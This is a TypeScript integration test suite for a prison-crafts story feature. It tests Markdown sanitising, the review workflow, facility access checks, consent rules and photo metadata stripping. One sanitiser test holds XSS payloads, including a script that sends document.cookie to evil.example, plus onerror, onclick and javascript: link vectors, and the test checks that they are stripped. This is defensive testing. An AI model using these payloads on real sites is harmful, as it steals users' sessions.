import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import sharp from 'sharp';
import request from 'supertest';
import type { Product } from '../src/catalog/product.entity';
import type { Problem } from '../src/common/errors/problem';
import type { Facility } from '../src/facilities/facility.entity';
import type { StoryCardView } from '../src/facilities/story-card.view';
import type { StoryAdminView, StoryView } from '../src/stories/story.views';
import { makeProduct } from './support/catalog-factories';
import { kanwilId, makeFacility, signedInAs } from './support/factories';
import { startTestApp, TestApp } from './support/test-app';

const ADMIN = '/api/v1/admin/stories';
const PUBLIC = '/api/v1/stories';
const CONSENTS = '/api/v1/admin/maker-consents';

type Body = Record<string, unknown>;
interface SignedIn {
  bearer: string;
  user: { id: string };
}
interface Page<T> {
  data: T[];
  nextCursor: string | null;
}

function expectProblem(response: request.Response, status: number, code: string): Problem {
  expect({ status: response.status, code: (response.body as Problem).code }).toEqual({ status, code });
  expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
  return response.body as Problem;
}

describe('stories: writing, review, consent and the public site', () => {
  let t: TestApp;
  let banjarmasin: Facility; // Kalimantan Selatan (kalsel)
  let kotabaru: Facility; // kalsel too
  let kerobokan: Facility; // Bali
  let lpka: Facility; // kalsel, juvenile
  let banjarmasinAdmin: SignedIn;
  let kotabaruAdmin: SignedIn;
  let lpkaAdmin: SignedIn;
  let kalselRegional: SignedIn;
  let baliRegional: SignedIn;
  let superadmin: SignedIn;
  let bread: Product;
  let cloth: Product;

  const as = (who: SignedIn) => ({
    get: (path: string) => request(t.http).get(path).set('Authorization', who.bearer),
    post: (path: string, body: Body = {}) => request(t.http).post(path).set('Authorization', who.bearer).send(body),
    patch: (path: string, body: Body) => request(t.http).patch(path).set('Authorization', who.bearer).send(body),
  });
  const draft = async (who: SignedIn, body: Body = {}): Promise<StoryAdminView> => {
    const response = await as(who).post(ADMIN, { title: 'Pagi di Dapur Roti', markdown: 'Adonan diuleni sejak subuh.', ...body });
    expect({ status: response.status, body: response.status === 201 ? 'ok' : response.body }).toEqual({ status: 201, body: 'ok' });
    return response.body as StoryAdminView;
  };
  /** Drafted by the facility, submitted, approved by the Kanwil's regional admin. */
  const published = async (body: Body = {}): Promise<StoryAdminView> => {
    const story = await draft(banjarmasinAdmin, body);
    await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/submit`).expect(200);
    return (await as(kalselRegional).post(`${ADMIN}/${story.id}/approve`).expect(200)).body as StoryAdminView;
  };
  const publicList = async (query: Record<string, string> = {}): Promise<Page<StoryCardView>> =>
    (await request(t.http).get(PUBLIC).query(query).expect(200)).body as Page<StoryCardView>;
  const consent = async (who: SignedIn, scopes: string[], facilityId?: string): Promise<string> => {
    const body = { displayName: 'A.R.', nameKind: 'INITIALS', scopes, recordedOn: '2026-11-20', recordedByOfficer: 'Kasi Giatja', ...(facilityId ? { facilityId } : {}) };
    return ((await as(who).post(CONSENTS, body).expect(201)).body as { id: string }).id;
  };

  beforeAll(async () => {
    t = await startTestApp();
    const ds = t.dataSource;
    banjarmasin = await makeFacility(ds, { name: 'Lapas Kelas IIA Banjarmasin' });
    kotabaru = await makeFacility(ds, { name: 'Lapas Kelas IIB Kotabaru' });
    kerobokan = await makeFacility(ds, { provinceCode: '51', name: 'Lapas Kelas IIA Kerobokan' });
    lpka = await makeFacility(ds, { type: 'LPKA', name: 'LPKA Kelas I Martapura' });
    banjarmasinAdmin = await signedInAs(t.http, ds, 'FACILITY_ADMIN', { facility: banjarmasin });
    kotabaruAdmin = await signedInAs(t.http, ds, 'FACILITY_ADMIN', { facility: kotabaru });
    lpkaAdmin = await signedInAs(t.http, ds, 'FACILITY_ADMIN', { facility: lpka });
    kalselRegional = await signedInAs(t.http, ds, 'REGIONAL_ADMIN', { kanwilId: await kanwilId(ds, 'kalsel') });
    baliRegional = await signedInAs(t.http, ds, 'REGIONAL_ADMIN', { kanwilId: await kanwilId(ds, 'bali') });
    superadmin = await signedInAs(t.http, ds, 'SUPERADMIN');
    bread = await makeProduct(ds, banjarmasin, { name: 'Roti Sobek Cokelat' });
    cloth = await makeProduct(ds, kerobokan, { name: 'Kain Endek' });
  });
  afterAll(() => t.close());

  describe('safe content', () => {
    it('renders Markdown to sanitised HTML on save and keeps the source as written', async () => {
      const markdown = [
        '## Adonan pertama',
        'Roti **hangat** keluar dari oven.',
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
        '<img src="https://evil.example/track.gif" onerror="alert(1)">',
        '[Lihat](javascript:alert(document.domain))',
        `![Dapur](${t.config.publicBaseUrl}/media/ab/abcdef-large.webp)`,
      ].join('\n\n');
      const story = await draft(banjarmasinAdmin, { markdown });
      expect(story.markdown).toBe(markdown);
      expect(story.html).toContain('<h2>Adonan pertama</h2>');
      expect(story.html).toContain('<strong>hangat</strong>');
      expect(story.html).toContain(`<img src="${t.config.publicBaseUrl}/media/ab/abcdef-large.webp" alt="Dapur" />`);
      for (const gone of ['<script', 'onerror', 'javascript:', 'evil.example', 'document.cookie']) expect(story.html).not.toContain(gone);
      expect(story.readingMinutes).toBe(1);
    });

    it('sanitises an edit too, and refuses unknown fields and offence-like extras', async () => {
      const story = await draft(banjarmasinAdmin);
      const edited = (await as(banjarmasinAdmin).patch(`${ADMIN}/${story.id}`, { markdown: 'Baik <a href="#" onclick="steal()">klik</a>' }).expect(200)).body as StoryAdminView;
      expect(edited.html).toBe('<p>Baik <a href="#" rel="nofollow noopener noreferrer">klik</a></p>\n');
      expectProblem(await as(banjarmasinAdmin).patch(`${ADMIN}/${story.id}`, { sentence: '5 tahun' }), 400, 'VALIDATION_FAILED');
      expectProblem(await as(banjarmasinAdmin).post(ADMIN, { title: 'Judul cerita', markdown: 'x', fullName: 'Budi Santoso' }), 400, 'VALIDATION_FAILED');
    });

    it('links only products of the story\'s own facility', async () => {
      expectProblem(await as(banjarmasinAdmin).post(ADMIN, { title: 'Kain dari Bali', markdown: 'x', productIds: [cloth.id] }), 400, 'VALIDATION_FAILED');
    });
  });

  describe('workflow and who may do what', () => {
    it('goes DRAFT -> IN_REVIEW -> PUBLISHED with the Kanwil\'s approval, every step in the audit log', async () => {
      const story = await draft(banjarmasinAdmin, { productIds: [bread.id], tags: ['roti', 'Pelatihan'], program: 'UMKM' });
      expect(story).toMatchObject({ status: 'DRAFT', facilityId: banjarmasin.id, authorId: banjarmasinAdmin.user.id, tags: ['roti', 'pelatihan'], productIds: [bread.id] });
      expectProblem(await as(kalselRegional).post(`${ADMIN}/${story.id}/approve`), 409, 'INVALID_STATE');
      expect((await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/submit`).expect(200)).body).toMatchObject({ status: 'IN_REVIEW' });

      expectProblem(await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/approve`), 403, 'FORBIDDEN');
      expectProblem(await as(baliRegional).post(`${ADMIN}/${story.id}/approve`), 404, 'NOT_FOUND');
      // No facility admin ever reviews: the route refuses the role before the story is looked up.
      expectProblem(await as(kotabaruAdmin).post(`${ADMIN}/${story.id}/approve`), 403, 'FORBIDDEN');
      const approved = (await as(kalselRegional).post(`${ADMIN}/${story.id}/approve`).expect(200)).body as StoryAdminView;
      expect(approved.status).toBe('PUBLISHED');
      expect(approved.publishedAt).not.toBeNull();

      const audit = await t.dataSource.query<{ action: string; actor_id: string }[]>(`SELECT action, actor_id FROM audit_event WHERE entity_id = $1 ORDER BY created_at, id`, [story.id]);
      expect(audit.map((a) => a.action).sort()).toEqual(['story.approve', 'story.create', 'story.submit']);
      expect(audit.find((a) => a.action === 'story.approve')?.actor_id).toBe(kalselRegional.user.id);
    });

    it('sends a story back with a reason the author sees, and a resubmission clears it', async () => {
      const story = await draft(banjarmasinAdmin);
      await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/submit`).expect(200);
      expectProblem(await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/reject`, { reason: 'Tidak boleh' }), 403, 'FORBIDDEN');
      expectProblem(await as(baliRegional).post(`${ADMIN}/${story.id}/reject`, { reason: 'Bukan wilayah saya' }), 404, 'NOT_FOUND');
      expectProblem(await as(kalselRegional).post(`${ADMIN}/${story.id}/reject`, {}), 400, 'VALIDATION_FAILED');
      await as(superadmin).post(`${ADMIN}/${story.id}/reject`, { reason: 'Wajah warga binaan terlihat; mohon ganti foto.' }).expect(200);
      const seen = (await as(banjarmasinAdmin).get(`${ADMIN}/${story.id}`).expect(200)).body as StoryAdminView;
      expect(seen).toMatchObject({ status: 'DRAFT', rejectionReason: 'Wajah warga binaan terlihat; mohon ganti foto.' });
      const resubmitted = (await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/submit`).expect(200)).body as StoryAdminView;
      expect(resubmitted).toMatchObject({ status: 'IN_REVIEW', rejectionReason: null });
    });

    it('keeps every facility to its own stories: reads, edits and steps elsewhere answer 404', async () => {
      const story = await draft(banjarmasinAdmin);
      const other = as(kotabaruAdmin);
      expectProblem(await other.get(`${ADMIN}/${story.id}`), 404, 'NOT_FOUND');
      expectProblem(await other.patch(`${ADMIN}/${story.id}`, { title: 'Diambil alih' }), 404, 'NOT_FOUND');
      expectProblem(await other.post(`${ADMIN}/${story.id}/submit`), 404, 'NOT_FOUND');
      expectProblem(await other.post(`${ADMIN}/${story.id}/unpublish`), 404, 'NOT_FOUND');
      // Reviewing is refused to the role (403) before the story is looked up: nothing is revealed.
      expectProblem(await other.post(`${ADMIN}/${story.id}/reject`, { reason: 'bukan milik saya' }), 403, 'FORBIDDEN');
      expectProblem(
        await request(t.http).post(`${ADMIN}/${story.id}/cover`).set('Authorization', kotabaruAdmin.bearer).attach('file', Buffer.from('not really'), 'x.jpg'),
        404,
        'NOT_FOUND',
      );
      expectProblem(await other.post(ADMIN, { facilityId: banjarmasin.id, title: 'Cerita orang lain', markdown: 'x' }), 404, 'NOT_FOUND');
      expectProblem(await as(baliRegional).get(`${ADMIN}/${story.id}`), 404, 'NOT_FOUND');
      const listed = (await other.get(ADMIN).expect(200)).body as Page<StoryAdminView>;
      expect(listed.data.every((s) => s.facilityId === kotabaru.id)).toBe(true);
      const kalsel = (await as(kalselRegional).get(`${ADMIN}?limit=100`).expect(200)).body as Page<StoryAdminView>;
      expect(kalsel.data.map((s) => s.id)).toContain(story.id);
      const bali = (await as(baliRegional).get(`${ADMIN}?limit=100`).expect(200)).body as Page<StoryAdminView>;
      expect(bali.data.map((s) => s.id)).not.toContain(story.id);
    });

    it('lists the review queue', async () => {
      const waiting = await draft(banjarmasinAdmin, { title: 'Menunggu ditinjau' });
      await as(banjarmasinAdmin).post(`${ADMIN}/${waiting.id}/submit`).expect(200);
      const queue = (await as(kalselRegional).get(`${ADMIN}?awaitingReview=true&limit=100`).expect(200)).body as Page<StoryAdminView>;
      expect(queue.data.map((s) => s.id)).toContain(waiting.id);
      expect(queue.data.every((s) => s.status === 'IN_REVIEW' || s.revision?.state === 'IN_REVIEW')).toBe(true);
    });

    it('puts an edit of a published story through review without taking the live version down', async () => {
      const story = await published({ title: 'Panen Lele Pertama', markdown: 'Versi pertama.' });
      const edited = (await as(banjarmasinAdmin).patch(`${ADMIN}/${story.id}`, { markdown: 'Versi kedua, lebih lengkap.' }).expect(200)).body as StoryAdminView;
      expect(edited).toMatchObject({ status: 'PUBLISHED', markdown: 'Versi pertama.', revision: { state: 'DRAFT', markdown: 'Versi kedua, lebih lengkap.' } });
      const live = async (): Promise<StoryView> => (await request(t.http).get(`${PUBLIC}/${story.slug}`).expect(200)).body as StoryView;
      expect((await live()).markdown).toBe('Versi pertama.');

      expectProblem(await as(kalselRegional).post(`${ADMIN}/${story.id}/approve`), 409, 'INVALID_STATE'); // not submitted yet
      await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/submit`).expect(200);
      expect((await live()).markdown).toBe('Versi pertama.');
      const approved = (await as(kalselRegional).post(`${ADMIN}/${story.id}/approve`).expect(200)).body as StoryAdminView;
      expect(approved).toMatchObject({ status: 'PUBLISHED', markdown: 'Versi kedua, lebih lengkap.', revision: null, publishedAt: story.publishedAt });
      expect((await live()).html).toBe('<p>Versi kedua, lebih lengkap.</p>\n');
    });

    it('unpublishes at once, and an archived story can go back through review', async () => {
      const story = await published({ title: 'Akan diarsipkan' });
      await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/unpublish`).expect(200);
      expectProblem(await request(t.http).get(`${PUBLIC}/${story.slug}`), 404, 'NOT_FOUND');
      expectProblem(await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/unpublish`), 409, 'INVALID_STATE');
      expect((await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/submit`).expect(200)).body).toMatchObject({ status: 'IN_REVIEW' });
    });
  });

  describe('consent and dignity', () => {
    it('refuses to submit a story about one maker without a consent record, with a clear code', async () => {
      // Refused at submission (issue 16: the reviewer never sees it), not only at approval.
      const story = await draft(banjarmasinAdmin, { title: 'Perjalanan A.R. di bengkel las', featuresIndividual: true });
      const refused = expectProblem(await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/submit`), 409, 'CONSENT_REQUIRED');
      expect(refused.detail).toMatch(/consent record/);
      expect((await as(banjarmasinAdmin).get(`${ADMIN}/${story.id}`).expect(200)).body).toMatchObject({ status: 'DRAFT' });
    });

    it('refuses a consent that does not cover stories, or belongs to another facility', async () => {
      const productOnly = await consent(banjarmasinAdmin, ['PRODUCT_CREDIT']);
      expectProblem(await as(banjarmasinAdmin).post(ADMIN, { title: 'Cerita A.R.', markdown: 'x', featuresIndividual: true, consentRecordId: productOnly }), 409, 'CONSENT_REQUIRED');
      const elsewhere = await consent(kotabaruAdmin, ['STORY']);
      expectProblem(await as(banjarmasinAdmin).post(ADMIN, { title: 'Cerita A.R.', markdown: 'x', featuresIndividual: true, consentRecordId: elsewhere }), 400, 'VALIDATION_FAILED');
    });

    it('publishes with consent (initials only), and withdrawing it takes the story down in the same request cycle', async () => {
      const consentId = await consent(banjarmasinAdmin, ['STORY', 'PRODUCT_CREDIT']);
      const story = await published({ title: 'A.R. dan mesin jahitnya', featuresIndividual: true, consentRecordId: consentId, tags: ['menjahit'] });
      const shown = (await request(t.http).get(`${PUBLIC}/${story.slug}`).expect(200)).body as StoryView;
      expect(shown.maker).toEqual({ displayName: 'A.R.', nameKind: 'INITIALS' });
      expect((await publicList({ tag: 'menjahit' })).data.map((s) => s.slug)).toEqual([story.slug]);

      await as(banjarmasinAdmin).post(`${CONSENTS}/${consentId}/withdraw`).expect(200);

      expect((await publicList({ tag: 'menjahit' })).data).toEqual([]);
      expectProblem(await request(t.http).get(`${PUBLIC}/${story.slug}`), 404, 'NOT_FOUND');
      const after = (await as(banjarmasinAdmin).get(`${ADMIN}/${story.id}`).expect(200)).body as StoryAdminView;
      expect(after.status).toBe('ARCHIVED');
      // Back through review, the withdrawn consent is refused (at submission, issue 16).
      expectProblem(await as(banjarmasinAdmin).post(`${ADMIN}/${story.id}/submit`), 409, 'CONSENT_REQUIRED');
      const [audit] = await t.dataSource.query<{ changes: { after?: { storiesUnpublished?: string[] } } }[]>(
        `SELECT changes FROM audit_event WHERE action = 'consent.withdraw' AND entity_id = $1`,
        [consentId],
      );
      expect(JSON.stringify(audit?.changes)).toContain(story.id);
    });

    it('never lets a story at an LPKA feature an individual child', async () => {
      expectProblem(await as(lpkaAdmin).post(ADMIN, { title: 'Seorang anak dan kuasnya', markdown: 'x', featuresIndividual: true }), 409, 'INDIVIDUAL_CREDIT_NOT_ALLOWED');
      const group = await draft(lpkaAdmin, { title: 'Kelas melukis LPKA Martapura' });
      expectProblem(await as(lpkaAdmin).patch(`${ADMIN}/${group.id}`, { featuresIndividual: true }), 409, 'INDIVIDUAL_CREDIT_NOT_ALLOWED');
    });

    it('strips EXIF and GPS from a cover photo and serves WebP variants', async () => {
      const story = await draft(banjarmasinAdmin, { title: 'Cerita bersampul' });
      const photo = await readFile(join(__dirname, 'fixtures', 'photos', 'DSCN0010.jpg'));
      const withCover = (await request(t.http)
        .post(`${ADMIN}/${story.id}/cover`)
        .set('Authorization', banjarmasinAdmin.bearer)
        .field('alt', 'Oven roti di dapur')
        .attach('file', photo, 'DSCN0010.jpg')
        .expect(200)).body as StoryAdminView;
      expect(withCover.cover).toMatchObject({ alt: 'Oven roti di dapur', width: 640, height: 480 });
      const path = new URL(withCover.cover?.largeUrl ?? '').pathname;
      const served = await request(t.http).get(path).buffer(true).parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      }).expect(200);
      const meta = await sharp(served.body as Buffer).metadata();
      expect({ format: meta.format, exif: meta.exif, xmp: meta.xmp }).toEqual({ format: 'webp', exif: undefined, xmp: undefined });
      expect(photo.includes('NIKON')).toBe(true);
      expect((served.body as Buffer).includes('NIKON')).toBe(false);
    });
  });

  describe('the public site', () => {
    it('lists published stories newest first with keyset pages, and filters by facility, product, tag and programme', async () => {
      const a = await published({ title: 'Cerita satu', tags: ['halaman'], program: 'SAE' });
      const b = await published({ title: 'Cerita dua', tags: ['halaman'], productIds: [bread.id] });
      const c = await published({ title: 'Cerita tiga', tags: ['halaman'] });
      await draft(banjarmasinAdmin, { title: 'Cerita draf', tags: ['halaman'] });

      const seen: string[] = [];
      let cursor: string | null = null;
      do {
        const page = await publicList({ tag: 'halaman', limit: '1', ...(cursor ? { cursor } : {}) });
        seen.push(...page.data.map((s) => s.slug));
        cursor = page.nextCursor;
      } while (cursor);
      expect(seen).toEqual([c.slug, b.slug, a.slug]);

      expect((await publicList({ tag: 'halaman', program: 'SAE' })).data.map((s) => s.slug)).toEqual([a.slug]);
      expect((await publicList({ tag: 'halaman', product: bread.slug })).data.map((s) => s.slug)).toEqual([b.slug]);
      expect((await publicList({ tag: 'halaman', facility: banjarmasin.slug })).data).toHaveLength(3);
      expect((await publicList({ tag: 'halaman', facility: kotabaru.slug })).data).toEqual([]);
      expectProblem(await request(t.http).get(PUBLIC).query({ facility: 'tidak-ada' }), 400, 'VALIDATION_FAILED');
      expectProblem(await request(t.http).get(PUBLIC).query({ cursor: 'bm9wZQ' }), 400, 'VALIDATION_FAILED');
    });

    it('shows a story with its sanitised HTML, Markdown, facility and products on sale, cached with an ETag', async () => {
      const story = await published({ title: 'Roti untuk warga', markdown: 'Roti **manis**.', productIds: [bread.id] });
      const response = await request(t.http).get(`${PUBLIC}/${story.slug}`).expect(200);
      const view = response.body as StoryView;
      expect(view).toMatchObject({
        slug: story.slug,
        title: 'Roti untuk warga',
        html: '<p>Roti <strong>manis</strong>.</p>\n',
        markdown: 'Roti **manis**.',
        facility: { slug: banjarmasin.slug, name: 'Lapas Kelas IIA Banjarmasin', provinceCode: '63' },
        products: [{ slug: bread.slug, name: 'Roti Sobek Cokelat', price: bread.price }],
        maker: null,
      });
      expect(response.headers['cache-control']).toMatch(/^public, max-age=60/);
      const etag = String(response.headers['etag']);
      await request(t.http).get(`${PUBLIC}/${story.slug}`).set('If-None-Match', etag).expect(304);
      expectProblem(await request(t.http).get(`${PUBLIC}/tidak-ada-cerita`), 404, 'NOT_FOUND');
    });

    it('puts the latest stories on the facility and product pages', async () => {
      const story = await published({ title: 'Cerita di halaman produk', productIds: [bread.id] });
      const facilityPage = (await request(t.http).get(`/api/v1/facilities/${banjarmasin.slug}`).expect(200)).body as { storyCount: number; latestStories: StoryCardView[] };
      expect(facilityPage.storyCount).toBeGreaterThanOrEqual(1);
      expect(facilityPage.latestStories[0]?.slug).toBe(story.slug);
      expect(facilityPage.latestStories.length).toBeLessThanOrEqual(3);
      const productPage = (await request(t.http).get(`/api/v1/products/${bread.slug}`).expect(200)).body as { stories: StoryCardView[] };
      expect(productPage.stories[0]?.slug).toBe(story.slug);
      const empty = (await request(t.http).get(`/api/v1/facilities/${kerobokan.slug}`).expect(200)).body as { storyCount: number; latestStories: StoryCardView[] };
      expect(empty).toMatchObject({ storyCount: 0, latestStories: [] });
    });
  });
});
